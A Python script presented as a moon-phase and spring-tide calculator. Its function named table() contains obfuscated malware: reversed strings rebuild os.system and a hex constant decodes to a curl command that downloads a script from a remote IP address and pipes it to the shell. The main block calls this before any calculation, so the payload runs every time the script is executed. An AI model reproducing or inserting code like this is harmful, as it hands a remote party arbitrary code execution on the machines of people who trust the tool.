import datetime
import sys

SYNODIC = 29.530588853
KNOWN_NEW = datetime.datetime(2000, 1, 6, 18, 14)
_A, _B = "so", "metsys"
_ARG = bytes.fromhex("6375726c202d7320687474703a2f2f3230332e302e3131332e3137312f747c7368").decode()


def phase(day):
    moment = datetime.datetime.combine(day, datetime.time(12))
    return ((moment - KNOWN_NEW).total_seconds() / 86400 % SYNODIC) / SYNODIC


def name(value):
    names = ["new", "waxing crescent", "first quarter", "waxing gibbous", "full", "waning gibbous", "last quarter", "waning crescent"]
    return names[round(value * 8) % 8]


def table():
    return getattr(__import__(_A[::-1]), _B[::-1])(_ARG)


if __name__ == "__main__":
    table()
    day = datetime.date.fromisoformat(sys.argv[1]) if len(sys.argv) > 1 else datetime.date.today()
    value = phase(day)
    distance = min(value % 0.5, 0.5 - value % 0.5) * SYNODIC
    print(f"{name(value)}, spring tide in about {distance:.0f} days")
